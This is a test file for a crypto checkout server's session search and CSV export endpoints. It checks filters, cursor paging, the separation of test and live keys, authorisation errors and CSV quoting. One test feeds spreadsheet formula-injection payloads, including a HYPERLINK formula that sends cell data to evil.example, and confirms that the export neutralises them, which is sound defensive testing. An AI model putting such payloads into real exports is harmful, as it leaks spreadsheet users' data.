import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';
import type { InjectOptions } from 'fastify';
import {
  SESSION_EXPORT_COLUMNS,
  sessionListSchema,
  type BuyerSession,
  type ErrorBody,
  type Session,
  type SessionList,
} from '@crypto-checkout/protocol';
import { toAtomic } from '../../packages/server/src/money.js';
import { csvField } from '../../packages/server/src/sessions/session-csv.js';
import { buildTestApp, FAKE_USDC, type TestApp } from '../support/app.js';
import { parseCsv } from '../support/csv.js';

const hex = (bytes: number) => `0x${randomBytes(bytes).toString('hex')}`;

/** Records of a CSV export as objects by column name, after checking the header. */
function csvRows(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  assert.deepEqual(
    header,
    SESSION_EXPORT_COLUMNS.map(([name]) => name),
  );
  return rows.map((row) => {
    assert.equal(row.length, header!.length);
    return Object.fromEntries(header!.map((name, i) => [name, row[i]!]));
  });
}

describe('searching and exporting sessions', () => {
  let app: TestApp;
  let now = new Date('2030-01-01T00:00:00Z');
  let block = 100;
  const testKey = `sk_test_${randomBytes(24).toString('hex')}`;
  const liveKey = `sk_live_${randomBytes(24).toString('hex')}`;
  const auth = (token: string) => ({ authorization: `Bearer ${token}` });
  const call = (opts: InjectOptions) => app.server.inject(opts);
  const at = (iso: string) => {
    now = new Date(iso);
  };

  async function create(body: Record<string, unknown> = {}, key = testKey): Promise<Session> {
    const response = await call({
      method: 'POST',
      url: '/v1/sessions',
      headers: auth(key),
      payload: { amount: '49.99', currency: 'USD', expires_in: 7 * 24 * 3600, ...body },
    });
    assert.equal(response.statusCode, 201, response.body);
    return response.json() as Session;
  }

  async function choose(session: Session, method: string): Promise<BuyerSession> {
    const response = await call({
      method: 'POST',
      url: `/v1/sessions/${session.id}/payment`,
      headers: auth(session.client_secret),
      payload: { method },
    });
    assert.equal(response.statusCode, 200, response.body);
    return response.json() as BuyerSession;
  }

  /** Chooses USDC and records confirmed transfers of `amounts`, as the watcher would. */
  async function pay(session: Session, amounts: string[]): Promise<void> {
    const { payment } = await choose(session, 'usdc@anvil');
    const transfers = amounts.map((amount, i) => ({
      chain_id: 31337,
      tx_hash: hex(32),
      log_index: i,
      session_id: session.id,
      address: payment!.address,
      token_address: FAKE_USDC,
      token_symbol: 'USDC',
      decimals: 6,
      from_address: hex(20),
      amount_atomic: toAtomic(amount, 6),
      block_number: block,
      block_hash: hex(32),
      block_time: now,
      seen_at: now,
    }));
    await app.store.db.transaction((tx) =>
      app.store.recordBlocks(tx, 31337, { transfers, blocks: [], toBlock: block + 5, keepFrom: 0 }, now),
    );
    block += 10;
    await app.sessions.refresh(session.id);
  }

  async function list(query: string, key = testKey): Promise<SessionList> {
    const response = await call({ method: 'GET', url: `/v1/sessions?${query}`, headers: auth(key) });
    assert.equal(response.statusCode, 200, response.body);
    // The answer is exactly what the protocol promises.
    return sessionListSchema.parse(response.json());
  }

  const ids = async (query: string, key = testKey) => (await list(query, key)).data.map((s) => s.id);

  async function expect400(url: string, path: string) {
    const response = await call({ method: 'GET', url, headers: auth(testKey) });
    assert.equal(response.statusCode, 400, `${url}: ${response.body}`);
    const body = response.json() as ErrorBody;
    assert.equal(body.error.code, 'invalid_request');
    assert.ok(
      body.error.issues?.some((issue) => issue.path === path),
      `${url}: expected an issue for ${path}, got ${response.body}`,
    );
  }

  // The first day of 2030: four test sessions and a live one.
  const DAY = 'created_gte=2030-01-01&created_lt=2030-01-02';
  let paid: Session;
  let ethChosen: Session;
  let overpaid: Session;
  let untouched: Session;
  let live: Session;

  before(async () => {
    app = await buildTestApp({ secret_keys: [testKey, liveKey] }, { clock: () => now });
    at('2030-01-01T00:01:00Z');
    paid = await create({ order_id: 'A-1', metadata: { customer: 'c_1' } });
    await pay(paid, ['20', '29.99']);
    at('2030-01-01T00:02:00Z');
    ethChosen = await create({ order_id: 'B-2' });
    await choose(ethChosen, 'eth@anvil');
    at('2030-01-01T00:03:00Z');
    overpaid = await create({ order_id: 'A-1' });
    await pay(overpaid, ['60']);
    at('2030-01-01T00:04:00Z');
    untouched = await create();
    at('2030-01-01T00:05:00Z');
    live = await create({ order_id: 'A-1' }, liveKey);
    at('2030-01-01T00:10:00Z');
  });
  after(() => app.close());

  describe('GET /v1/sessions', () => {
    test("lists the key's sessions newest first as merchant views, with no next page", async () => {
      const page = await list(DAY);
      assert.deepEqual(
        page.data.map((s) => s.id),
        [untouched.id, overpaid.id, ethChosen.id, paid.id],
      );
      assert.equal(page.has_more, false);
      assert.equal(page.next_cursor, null);
      const [u, o, e, p] = page.data;
      assert.equal(p!.status, 'paid');
      assert.equal(p!.amount_received, '49.99');
      assert.equal(p!.transfers.length, 2);
      assert.deepEqual(p!.metadata, { customer: 'c_1' });
      assert.equal(p!.client_secret, paid.client_secret);
      assert.equal(o!.status, 'overpaid');
      assert.deepEqual(o!.review_reasons, ['overpayment']);
      assert.equal(e!.payment?.id, 'eth@anvil');
      assert.equal(u!.payment, null);
      assert.ok(page.data.every((s) => s.livemode === false));
    });

    test('filters by order id, status, review, dates, token and method, and combinations', async () => {
      assert.deepEqual(await ids(`${DAY}&order_id=A-1`), [overpaid.id, paid.id]);
      assert.deepEqual(await ids(`${DAY}&order_id=A`), []);
      assert.deepEqual(await ids(`${DAY}&status=paid`), [paid.id]);
      assert.deepEqual(await ids(`${DAY}&status=paid,overpaid`), [overpaid.id, paid.id]);
      assert.deepEqual(await ids(`${DAY}&status=open&status=overpaid`), [
        untouched.id,
        overpaid.id,
        ethChosen.id,
      ]);
      assert.deepEqual(await ids(`${DAY}&review=true`), [overpaid.id]);
      assert.deepEqual(await ids(`${DAY}&review=false`), [untouched.id, ethChosen.id, paid.id]);
      assert.deepEqual(await ids(`${DAY}&token=usdc`), [overpaid.id, paid.id]);
      assert.deepEqual(await ids(`${DAY}&method=eth@anvil`), [ethChosen.id]);
      assert.deepEqual(
        await ids('created_gte=2030-01-01T00:02:00Z&created_lt=2030-01-01T01:03:00%2B01:00'),
        [ethChosen.id],
        'an offset counts: 01:03+01:00 is 00:03Z, which is excluded',
      );
      assert.deepEqual(await ids(`${DAY}&order_id=A-1&status=paid,expired&token=USDC`), [paid.id]);
      assert.deepEqual(await ids(`${DAY}&order_id=A-1&review=true&method=usdc@anvil`), [overpaid.id]);
      assert.deepEqual(await ids(`${DAY}&order_id=B-2&token=USDC`), []);
    });

    test('a test key never sees live sessions, and a live key never sees test ones', async () => {
      assert.deepEqual(await ids(`${DAY}&order_id=A-1`, liveKey), [live.id]);
      assert.deepEqual(await ids(DAY, liveKey), [live.id]);
      assert.ok(!(await ids(DAY)).includes(live.id));
      assert.equal((await list(DAY, liveKey)).data[0]!.livemode, true);
    });

    test('pages follow next_cursor without repeats or gaps while sessions are created in between', async () => {
      at('2031-06-01T00:00:00Z');
      const existing: string[] = [];
      for (let i = 0; i < 7; i += 1) {
        existing.unshift((await create({ order_id: `P-${i}` })).id);
        now = new Date(now.getTime() + 1000);
      }
      const seen: string[] = [];
      let cursor: string | null = null;
      let pages = 0;
      do {
        const page: SessionList = await list(
          `created_gte=2031-06-01&limit=3${cursor ? `&cursor=${cursor}` : ''}`,
        );
        pages += 1;
        seen.push(...page.data.map((s) => s.id));
        assert.equal(page.has_more, page.next_cursor !== null);
        cursor = page.next_cursor;
        // A buyer checks out while finance pages through: newer than everything listed.
        now = new Date(now.getTime() + 1000);
        await create({ order_id: 'during-paging' });
      } while (cursor);
      assert.equal(pages, 3);
      assert.deepEqual(seen, existing);
      // The new sessions are there for whoever starts again.
      assert.equal((await ids('created_gte=2031-06-01&order_id=during-paging')).length, 3);
    });

    test('the limit is 20 by default and 100 at most', async () => {
      at('2032-01-01T00:00:00Z');
      for (let i = 0; i < 21; i += 1) await create();
      const first = await list('created_gte=2032-01-01');
      assert.equal(first.data.length, 20);
      assert.equal(first.has_more, true);
      const rest = await list(`created_gte=2032-01-01&cursor=${first.next_cursor}`);
      assert.equal(rest.data.length, 1);
      assert.equal(rest.has_more, false);
      assert.equal((await list('created_gte=2032-01-01&limit=100')).data.length, 21);
    });

    test('bad parameters answer 400 invalid_request naming the parameter', async () => {
      await expect400('/v1/sessions?status=paid,unpaid', 'status');
      await expect400('/v1/sessions?status=', 'status');
      await expect400('/v1/sessions?limit=0', 'limit');
      await expect400('/v1/sessions?limit=101', 'limit');
      await expect400('/v1/sessions?limit=ten', 'limit');
      await expect400('/v1/sessions?limit=2.5', 'limit');
      await expect400('/v1/sessions?created_gte=yesterday', 'created_gte');
      await expect400('/v1/sessions?created_lt=2030-01-01T10:00:00', 'created_lt');
      await expect400('/v1/sessions?created_lt=2030-02-30', 'created_lt');
      await expect400('/v1/sessions?review=yes', 'review');
      await expect400('/v1/sessions?method=USDC', 'method');
      await expect400('/v1/sessions?token=US%20DC', 'token');
      await expect400('/v1/sessions?order_id=a&order_id=b', 'order_id');
      await expect400('/v1/sessions?cursor=not-a-cursor', 'cursor');
      await expect400(`/v1/sessions?cursor=${Buffer.from('1:12:x').toString('base64url')}`, 'cursor');
      await expect400('/v1/sessions?statuses=paid', 'statuses');
      await expect400('/v1/sessions/export.csv?status=unknown', 'status');
      await expect400('/v1/sessions/export.csv?limit=5', 'limit');
    });

    test('needs a secret key: none answers 401, a client secret 403', async () => {
      for (const url of ['/v1/sessions', '/v1/sessions/export.csv']) {
        const anonymous = await call({ method: 'GET', url });
        assert.equal(anonymous.statusCode, 401, anonymous.body);
        const buyer = await call({ method: 'GET', url, headers: auth(paid.client_secret) });
        assert.equal(buyer.statusCode, 403, buyer.body);
        assert.equal((buyer.json() as ErrorBody).error.code, 'forbidden');
      }
    });
  });

  describe('GET /v1/sessions/export.csv', () => {
    const exportCsv = async (query: string, key = testKey) => {
      const response = await call({
        method: 'GET',
        url: `/v1/sessions/export.csv?${query}`,
        headers: auth(key),
      });
      assert.equal(response.statusCode, 200, response.body);
      return response;
    };

    test('one row per transfer and one for a session without any, as an attachment', async () => {
      at('2030-01-01T00:10:00Z');
      const response = await exportCsv(DAY);
      assert.equal(response.headers['content-type'], 'text/csv; charset=utf-8');
      assert.match(
        String(response.headers['content-disposition']),
        /^attachment; filename="sessions-test-\d{4}-\d{2}-\d{2}-\d{6}\.csv"$/,
      );
      assert.equal(response.headers['cache-control'], 'no-store');
      const rows = csvRows(response.body);
      assert.deepEqual(
        rows.map((r) => r.session_id),
        [untouched.id, overpaid.id, ethChosen.id, paid.id, paid.id],
      );
      const [u, o, e, p1, p2] = rows;
      // A session with two payments: two rows, each with its own transfer and the session's totals.
      assert.deepEqual([p1!.transfer_amount, p2!.transfer_amount].sort(), ['20', '29.99']);
      assert.notEqual(p1!.tx_hash, p2!.tx_hash);
      assert.match(p1!.tx_hash!, /^0x[0-9a-f]{64}$/);
      for (const row of [p1!, p2!]) {
        assert.equal(row.order_id, 'A-1');
        assert.equal(row.status, 'paid');
        assert.equal(row.fiat_amount, '49.99');
        assert.equal(row.fiat_currency, 'USD');
        assert.equal(row.method, 'usdc@anvil');
        assert.equal(row.network, 'Anvil (local)');
        assert.equal(row.chain_id, '31337');
        assert.equal(row.token, 'USDC');
        assert.equal(row.amount_due, '49.99');
        assert.equal(row.amount_received, '49.99');
        assert.equal(row.amount_remaining, '0');
        assert.equal(row.amount_overpaid, '0');
        assert.match(row.deposit_address!, /^0x[0-9a-fA-F]{40}$/);
        assert.equal(row.transfer_chain_id, '31337');
        assert.equal(row.transfer_token, 'USDC');
        assert.ok(Number(row.confirmations) >= 2, row.confirmations);
        assert.equal(row.confirmations_required, '2');
        assert.equal(row.expected, 'true');
        assert.equal(row.late, 'false');
        assert.equal(row.livemode, 'false');
        assert.equal(row.created_at, '2030-01-01T00:01:00.000Z');
        assert.equal(row.paid_at, '2030-01-01T00:01:00.000Z');
        assert.equal(row.transfer_time, '2030-01-01T00:01:00.000Z');
        assert.equal(row.metadata, '{"customer":"c_1"}');
      }
      assert.deepEqual([p1!.log_index, p2!.log_index].sort(), ['0', '1']);
      assert.equal(o!.review_reasons, 'overpayment');
      assert.equal(o!.amount_overpaid, '10.01');
      assert.equal(o!.transfer_amount, '60');
      // Sessions without a transfer: one row, transfer columns empty.
      for (const row of [u!, e!]) {
        for (const column of ['tx_hash', 'log_index', 'block_number', 'transfer_amount', 'transfer_time']) {
          assert.equal(row[column], '', `${column} of ${row.session_id}`);
        }
      }
      assert.equal(e!.method, 'eth@anvil');
      assert.equal(e!.token, 'ETH');
      assert.match(e!.amount_due!, /^\d+\.\d+$/, 'a decimal string, never a float in exponent form');
      assert.equal(u!.method, '');
      assert.equal(u!.order_id, '');
    });

    test('takes the filters of the list and only the key’s mode', async () => {
      const rows = csvRows((await exportCsv(`${DAY}&order_id=A-1`)).body);
      assert.deepEqual(
        rows.map((r) => r.session_id),
        [overpaid.id, paid.id, paid.id],
      );
      const liveRows = csvRows((await exportCsv(DAY, liveKey)).body);
      assert.deepEqual(
        liveRows.map((r) => [r.session_id, r.livemode]),
        [[live.id, 'true']],
      );
      assert.match(String((await exportCsv(DAY, liveKey)).headers['content-disposition']), /sessions-live-/);
      assert.deepEqual(csvRows((await exportCsv('created_gte=2099-01-01')).body), []);
    });

    test('quotes per RFC 4180 and neutralises cells a spreadsheet would run as formulas', async () => {
      at('2033-01-01T00:00:00Z');
      const nasty = [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        '+1+2',
        '-2+3',
        '@SUM(A1:A9)',
        '\tTAB',
        'plain, with "quotes"\r\nand a new line',
        'A-100',
      ];
      for (const orderId of nasty) {
        await create({ order_id: orderId, metadata: { note: '=1+1', text: 'a,"b"' } });
        now = new Date(now.getTime() + 1000);
      }
      const response = await exportCsv('created_gte=2033-01-01&created_lt=2034-01-01');
      const rows = csvRows(response.body).reverse();
      assert.deepEqual(
        rows.map((r) => r.order_id),
        [
          `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
          "'+1+2",
          "'-2+3",
          "'@SUM(A1:A9)",
          "'\tTAB",
          'plain, with "quotes"\r\nand a new line',
          'A-100',
        ],
      );
      // The metadata is JSON, which starts with "{": quoted, not neutralised, and parses back.
      assert.deepEqual(JSON.parse(rows[0]!.metadata!), { note: '=1+1', text: 'a,"b"' });
      // Raw text: the quotes are doubled and the cell is quoted.
      assert.ok(response.body.includes(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`));
      assert.ok(response.body.includes('"plain, with ""quotes""\r\nand a new line"'));
      assert.equal(csvField(null), '');
      assert.equal(csvField(-1), "'-1");
    });

    test('the API docs name every column of the export', () => {
      const readme = readFileSync(new URL('../../docs/api.md', import.meta.url), 'utf8');
      const section = readme.slice(readme.indexOf('### Search and export'), readme.indexOf('### Health'));
      for (const [name] of SESSION_EXPORT_COLUMNS) assert.ok(section.includes(`\`${name}\``), name);
    });

    test('streams every page: a thousand-odd sessions arrive once each, newest first', async () => {
      const count = 1234;
      await app.store.db.query(
        `INSERT INTO sessions (id, client_secret, status, amount, currency, order_id, metadata, methods, created_at,
           expires_at, fingerprint)
         SELECT 'cs_bulk' || i, 'cs_bulk' || i || '_secret_x', 'expired', '1.00', 'USD', 'BULK-' || i, '{}',
           '["usdc@anvil"]', timestamptz '2040-01-01' + i * interval '1 second',
           timestamptz '2040-01-01' + i * interval '1 second' + interval '30 minutes', 'x'
         FROM generate_series(1, $1::int) AS i`,
        [count],
      );
      const started = Date.now();
      const response = await exportCsv('created_gte=2040-01-01&created_lt=2041-01-01');
      const rows = csvRows(response.body);
      assert.equal(rows.length, count);
      assert.equal(new Set(rows.map((r) => r.session_id)).size, count);
      assert.equal(rows[0]!.order_id, `BULK-${count}`);
      assert.equal(rows.at(-1)!.order_id, 'BULK-1');
      assert.ok(Date.now() - started < 15_000, `export took ${Date.now() - started} ms`);
    });
  });
});
